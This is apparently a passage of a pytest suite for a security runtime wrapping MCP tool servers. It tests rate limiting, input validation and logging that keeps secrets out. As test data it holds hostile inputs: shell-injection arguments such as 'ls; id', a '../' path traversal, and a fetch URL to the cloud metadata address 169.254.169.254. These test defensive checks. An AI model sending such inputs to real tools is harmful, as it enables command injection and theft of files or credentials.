    with pytest.raises(runtime.Rejected):
        run("a;b")


# -- rate_limit -----------------------------------------------------------------------------------


def test_the_window_slides(
    clock: Clock, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("RATE_LIMIT_RPM", "2")
    ran: list[float] = []

    @runtime.rate_limit
    def ping() -> str:
        ran.append(clock.now)
        return "pong"

    throttled = []
    for now in [0.0, 1.0, 2.0, 59.9, 60.0, 60.5, 61.0, 200.0]:
        clock.now = now
        assert ping() == "pong", "shadow mode lets every call through"
        if events(log_lines(capsys), "RATE_LIMIT_WOULD_THROTTLE"):
            throttled.append(now)
    assert throttled == [2.0, 59.9, 60.5]
    assert len(ran) == 8


def test_enforced_rate_limit_refuses_and_logs(
    clock: Clock, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("RATE_LIMIT_RPM", "3")
    monkeypatch.setenv("ENFORCE_RATE_LIMITS", "true")

    @runtime.observe
    @runtime.rate_limit
    async def search(query: str) -> str:
        return "results"

    async def calls() -> list[str]:
        outcomes = []
        for _ in range(5):
            try:
                outcomes.append(await search(SECRET))
            except runtime.Rejected as rejected:
                assert isinstance(rejected, ToolError)
                outcomes.append(str(rejected))
        return outcomes

    outcomes = asyncio.run(calls())
    assert outcomes[:3] == ["results"] * 3
    assert outcomes[3] == outcomes[4] == "Rate limit exceeded for this tool; retry later."
    lines = log_lines(capsys)
    enforced = events(lines, "RATE_LIMIT_ENFORCED")
    assert len(enforced) == 2
    assert enforced[0] == {**enforced[0], "tool": "search", "caller": "local", "limit_rpm": 3}
    assert [line["isError"] for line in events(lines, "tool_call")] == [False] * 3 + [True] * 2
    clock.now = 60.0
    assert asyncio.run(search("again")) == "results"


def test_limits_are_per_caller_and_tool(clock: Clock, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("RATE_LIMIT_RPM", "1")
    monkeypatch.setenv("ENFORCE_RATE_LIMITS", "yes")

    @runtime.rate_limit
    def first() -> str:
        return "1"

    @runtime.rate_limit
    def second() -> str:
        return "2"

    alice, bob = http_request("alice"), http_request("bob")
    with client_request(alice):
        assert (first(), second()) == ("1", "2")
    with client_request(bob):
        assert first() == "1"
    with client_request(alice), pytest.raises(runtime.Rejected):
        first()


def test_zero_rpm_means_no_limit(clock: Clock, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("RATE_LIMIT_RPM", "0")
    monkeypatch.setenv("ENFORCE_RATE_LIMITS", "true")
    limited = runtime.rate_limit(lambda: "ok")
    assert [limited() for _ in range(300)] == ["ok"] * 300


def test_memory_stays_bounded_forgetting_the_least_recent_callers(
    clock: Clock, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(runtime, "RATE_LIMIT_MAX_KEYS", 50)
    runtime.reset()
    runtime.configure(clock=clock, rate_limit_rpm=1, enforce_rate_limits=True)

    @runtime.rate_limit
    def tool() -> str:
        return "ok"

    def call_as(index: int) -> str:
        with client_request(http_request(f"caller-{index}")):
            return tool()

    assert all(call_as(index) == "ok" for index in range(60))
    assert len(runtime._state.windows._calls) == 50
    assert call_as(0) == "ok", "forgotten, so it starts a fresh window"
    with pytest.raises(runtime.Rejected):
        call_as(59)


def test_threads_share_one_window_without_losing_counts_or_log_lines(
    clock: Clock, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("RATE_LIMIT_RPM", "400")
    monkeypatch.setenv("ENFORCE_RATE_LIMITS", "true")
    outcomes: list[str] = []
    lock = threading.Lock()

    @runtime.observe
    @runtime.rate_limit
    def ping(n: int) -> int:
        return n

    def worker() -> None:
        for n in range(200):
            try:
                with client_request():  # a thread starts with a context of its own
                    ping(n)
                outcome = "ok"
            except runtime.Rejected:
                outcome = "rejected"
            with lock:
                outcomes.append(outcome)

    threads = [threading.Thread(target=worker) for _ in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert outcomes.count("ok") == 400 and outcomes.count("rejected") == 400
    lines = log_lines(capsys)
    assert len(events(lines, "tool_call")) == 800
    assert len(events(lines, "RATE_LIMIT_ENFORCED")) == 400


def test_asyncio_tasks_share_one_window(clock: Clock, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("RATE_LIMIT_RPM", "10")
    monkeypatch.setenv("ENFORCE_RATE_LIMITS", "true")

    @runtime.rate_limit
    async def fetch(n: int) -> int:
        await asyncio.sleep(0)
        return n

    async def main() -> list[object]:
        return await asyncio.gather(*(fetch(n) for n in range(50)), return_exceptions=True)

    results = asyncio.run(main())
    assert sum(isinstance(result, int) for result in results) == 10
    assert sum(isinstance(result, runtime.Rejected) for result in results) == 40


# -- low-level servers: one call_tool handler for every tool --------------------------------------


def lowlevel(fn: Callable[..., Any]) -> Callable[..., Any]:
    return runtime.observe(lowlevel=True)(
        runtime.rate_limit(lowlevel=True)(runtime.validate(lowlevel=True)(fn))
    )


def test_lowlevel_mcp1_call_shape(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    @lowlevel
    async def call_tool(name: str, arguments: dict[str, Any]) -> list[mcp_types.TextContent]:
        return [mcp_types.TextContent(type="text", text=f"{name} done")]

    result = asyncio.run(call_tool("fetch", {"url": f"http://127.0.0.1/{SECRET}", "n": 1}))
    assert result[0].text == "fetch done"
    captured = capsys.readouterr()
    assert SECRET not in captured.err
    rejected, call = (json.loads(line) for line in captured.err.splitlines())
    assert (rejected["event"], rejected["tool"], rejected["param"]) == (
        "VALIDATION_WOULD_REJECT",
        "fetch",
        "url",
    )
    assert (call["tool"], call["params"], call["isError"]) == (
        "fetch",
        {"url": "str", "n": "int"},
        False,
    )

    monkeypatch.setenv("ENFORCE_VALIDATION", "true")
    refused = asyncio.run(call_tool("fetch", {"url": f"http://127.0.0.1/{SECRET}"}))
    assert isinstance(refused, mcp_types.CallToolResult) and refused.isError
    assert SECRET not in refused.content[0].text


@pytest.mark.usefixtures("mcp2_style")
def test_lowlevel_mcp2_call_shape(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    @lowlevel
    async def on_call_tool(ctx: object, params: object) -> str:
        return "done"

    ctx = SimpleNamespace(request=http_request("sess-2"), session=object())
    params = SimpleNamespace(name="run", arguments={"cmd": "ls; id"})
    assert asyncio.run(from_framework_async(on_call_tool, ctx, params)) == "done"
    rejected, call = log_lines(capsys)
    assert (rejected["rule"], rejected["param"], rejected["caller"]) == (
        "shell_metachar",
        "cmd",
        "session:sess-2",
    )
    assert (call["tool"], call["caller"], call["params"]) == (
        "run",
        "session:sess-2",
        {"cmd": "str"},
    )

    empty = SimpleNamespace(name="noargs", arguments=None)
    assert asyncio.run(from_framework_async(on_call_tool, ctx, empty)) == "done"

    monkeypatch.setenv("ENFORCE_VALIDATION", "true")
    refused = asyncio.run(from_framework_async(on_call_tool, ctx, params))
    assert isinstance(refused, mcp_types.CallToolResult) and refused.isError
    monkeypatch.delitem(sys.modules, "mcp.types")
    with pytest.raises(runtime.Rejected):
        asyncio.run(from_framework_async(on_call_tool, ctx, params))


# -- on a real mcp 1.x server, in memory -------------------------------------------------------


def fastmcp_server(*tools: Callable[..., Any]) -> FastMCP:
    server = FastMCP("files")
    for tool in tools:
        server.tool()(tool)
    return server


async def exchange(
    server: FastMCP | Server[Any, Any], calls: list[tuple[str, dict[str, Any]]]
) -> tuple[list[dict[str, Any]], list[dict[str, Any]]]:
    mcp_server = server._mcp_server if isinstance(server, FastMCP) else server
    async with create_connected_server_and_client_session(mcp_server) as client:
        tools = [tool.model_dump() for tool in (await client.list_tools()).tools]
        results = [(await client.call_tool(name, args)).model_dump() for name, args in calls]
    return tools, results


CALLS = [
    ("read_file", {"path": "notes.txt"}),
    ("read_file", {"path": "notes.txt", "limit": 3}),
    ("read_file", {"path": 5}),
    ("count_words", {"text": "a b\nc"}),
]


def test_fastmcp_sees_the_same_tools_and_results(capsys: pytest.CaptureFixture[str]) -> None:
    plain = asyncio.run(exchange(fastmcp_server(read_file, count_words), CALLS))
    capsys.readouterr()
    decorated = asyncio.run(
        exchange(fastmcp_server(HARDENED_READ_FILE, HARDENED_COUNT_WORDS), CALLS)
    )
    assert decorated == plain
    tools, results = decorated
    assert tools[0]["inputSchema"]["properties"]["path"]["description"].startswith("File to read")
    assert "ctx" not in tools[0]["inputSchema"]["properties"]
    assert results[0]["content"][0]["text"] == "notes.txt:10:Context"
    assert results[2]["isError"] is True, "the framework still validates the arguments"
    assert results[3]["structuredContent"] == {"lines": 2, "words": 3}
    calls = events(log_lines(capsys), "tool_call")
    assert [(line["tool"], line["caller"]) for line in calls] == [
        ("read_file", "local"),
        ("read_file", "local"),
        ("count_words", "local"),
    ]
    assert calls[1]["params"] == {"path": "str", "limit": "int"}


def test_fastmcp_enforced_rejection_is_an_error_result(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("ENFORCE_VALIDATION", "true")
    server = fastmcp_server(HARDENED_READ_FILE)
    _, [refused, allowed] = asyncio.run(
        exchange(server, [("read_file", {"path": f"../{SECRET}"}), ("read_file", {"path": "a"})])
    )
    assert refused["isError"] is True
    assert SECRET not in refused["content"][0]["text"]
    assert "rejected by input validation" in refused["content"][0]["text"]
    assert allowed["isError"] is False
    assert SECRET not in capsys.readouterr().err


def test_lowlevel_server_keeps_working_and_refuses_with_an_error_result(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    server: Server[Any, Any] = Server("low")

    @server.list_tools()
    async def list_tools() -> list[mcp_types.Tool]:
        schema = {"type": "object", "properties": {"url": {"type": "string"}}}
        return [mcp_types.Tool(name="fetch", inputSchema=schema)]

    @server.call_tool()
    @lowlevel
    async def call_tool(name: str, arguments: dict[str, Any]) -> list[mcp_types.TextContent]:
        return [mcp_types.TextContent(type="text", text=f"fetched {arguments['url']}")]

    url = f"http://169.254.169.254/{SECRET}"
    _, [shadow] = asyncio.run(exchange(server, [("fetch", {"url": url})]))
    assert shadow["isError"] is False and shadow["content"][0]["text"] == f"fetched {url}"
    monkeypatch.setenv("ENFORCE_VALIDATION", "true")
    _, [refused] = asyncio.run(exchange(server, [("fetch", {"url": url})]))
    assert refused["isError"] is True and SECRET not in refused["content"][0]["text"]
    lines = log_lines(capsys)
    assert [line["event"] for line in lines] == [
        "VALIDATION_WOULD_REJECT",
        "tool_call",
        "VALIDATION_REJECTED",
        "tool_call",
    ]
    assert [line["isError"] for line in events(lines, "tool_call")] == [False, True]


def test_names_a_client_chooses_are_bounded_in_memory_and_in_the_log(
    capsys: pytest.CaptureFixture[str],
) -> None:
    @runtime.observe(lowlevel=True)
    @runtime.rate_limit(lowlevel=True)
    async def call_tool(name: str, arguments: dict[str, Any]) -> list[Any]:
        return []

    huge = "t" * 1_000_000
    asyncio.run(call_tool(huge, {"a" * 100_000: "x"}))
    asyncio.run(call_tool(huge[:-1] + "u", {}))
    first, second = events(log_lines(capsys), "tool_call")
    assert len(first["tool"]) < 200 and first["tool"] != second["tool"]
    assert max(len(key[1]) for key in runtime._state.windows._calls) < 200
    assert runtime._cached_kinds.cache_info().currsize <= 4096


def test_a_value_equal_to_the_parameters_own_default_is_never_a_violation(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    runtime.configure(allowed_roots=[str(tmp_path)])

    @runtime.validate
    def listing(path: str = "/", host: str = "localhost") -> str:
        return path

    assert listing(path="/", host="localhost") == "/"  # the author's own defaults
    assert events(log_lines(capsys), "VALIDATION_WOULD_REJECT") == []
    listing(path="/etc", host="localhost")
    (line,) = events(log_lines(capsys), "VALIDATION_WOULD_REJECT")
    assert (line["param"], line["rule"]) == ("path", "path_outside_roots")
